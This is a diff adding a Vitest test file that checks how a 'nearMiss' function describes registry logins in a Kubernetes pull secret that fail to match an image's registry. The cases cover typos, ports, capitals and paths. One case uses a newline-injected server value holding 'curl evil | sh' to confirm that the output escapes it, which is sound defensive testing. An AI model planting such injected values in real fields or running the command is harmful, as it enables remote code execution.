@@ -1,0 +1,47 @@
+import { expect, test } from "vitest";
+import { nearMiss } from "../../../src/check/near-miss.ts";
+
+const r = "myregistry.azurecr.io";
+
+test.for<{ servers: string[]; host?: string; says: string }>([
+  { servers: [], says: "no login at all: its auths are empty" },
+  { servers: ["ghcr.io"], says: "a login for ghcr.io only" },
+  { servers: ["ghcr.io", "quay.io"], says: "a login for ghcr.io, quay.io only" },
+  { servers: ["a.io", "b.io", "c.io"], says: "a login for a.io, b.io, c.io only" },
+  { servers: ["a.io", "b.io", "c.io", "d.io", "e.io"], says: "a login for a.io, b.io, c.io and 2 more only" },
+  { servers: ["ghcr.io", "myregistri.azurecr.io"], says: `a login for ghcr.io, myregistri.azurecr.io only (one letter from ${r})` },
+  { servers: ["myregistyr.azurecr.io"], says: `a login for myregistyr.azurecr.io only (two letters from ${r})` },
+  { servers: ["myregistry.azurecr.i"], says: `a login for myregistry.azurecr.i only (one letter from ${r})` },
+  { servers: ["yregistry.azurecr.io"], says: `a login for yregistry.azurecr.io only (one letter from ${r})` },
+  { servers: ["amyregistry.azurecr.io"], says: `a login for amyregistry.azurecr.io only (one letter from ${r})` },
+  { servers: ["myregistry.azurecr.com"], says: `a login for myregistry.azurecr.com only (two letters from ${r})` },
+  { servers: ["myregistry.azure.cr"], says: "a login for myregistry.azure.cr only" },
+  { servers: ["yourregistry.azurecr.io"], says: "a login for yourregistry.azurecr.io only" },
+  { servers: [`https://${r}:443`], says: `a login for https://${r}:443 only (the port counts: the image says ${r})` },
+  { servers: [r], host: `${r}:443`, says: `a login for ${r} only (the port counts: the image says ${r}:443)` },
+  { servers: ["MYREGISTRY.azurecr.io"], says: `a login for MYREGISTRY.azurecr.io only (capitals count: the image says ${r})` },
+  { servers: [r], host: "MyRegistry.azurecr.io", says: `a login for ${r} only (capitals count: the image says MyRegistry.azurecr.io)` },
+  { servers: [`${r}/team`], says: `a login for ${r}/team only (its path is not how ${r}/app/web begins)` },
+  {
+    servers: [`https://${r}/v2`],
+    says: `a login for https://${r}/v2 only (its path is not how ${r}/app/web begins: it lacks a / at its end)`,
+  },
+  {
+    servers: [`http://${r}/v1`],
+    says: `a login for http://${r}/v1 only (its path is not how ${r}/app/web begins: it lacks a / at its end)`,
+  },
+  { servers: [`https://${r}/team/v2`], says: `a login for https://${r}/team/v2 only (its path is not how ${r}/app/web begins)` },
+  { servers: [`https://${r}/v2x`], says: `a login for https://${r}/v2x only (its path is not how ${r}/app/web begins)` },
+  {
+    servers: ["https://index.docker.io/v1/"],
+    says: "a login for https://index.docker.io/v1/ only (kubectl's default, where --docker-server is left out)",
+  },
+  { servers: ["index.docker.io"], says: "a login for index.docker.io only" },
+  { servers: ["x\n  curl evil | sh"], says: 'a login for "x\\n  curl evil | sh" only' },
+  { servers: ["a b"], says: 'a login for "a b" only' },
+  { servers: [" a"], says: 'a login for " a" only' },
+  { servers: ["a "], says: 'a login for "a " only' },
+  { servers: ["*.azurecr.us:5000/x-y_z"], says: "a login for *.azurecr.us:5000/x-y_z only" },
+])("$servers for $host", ({ servers, host = r, says }) => {
+  expect(nearMiss("s", servers, host, "app/web")).toBe(`secret s has ${says}`);
+});
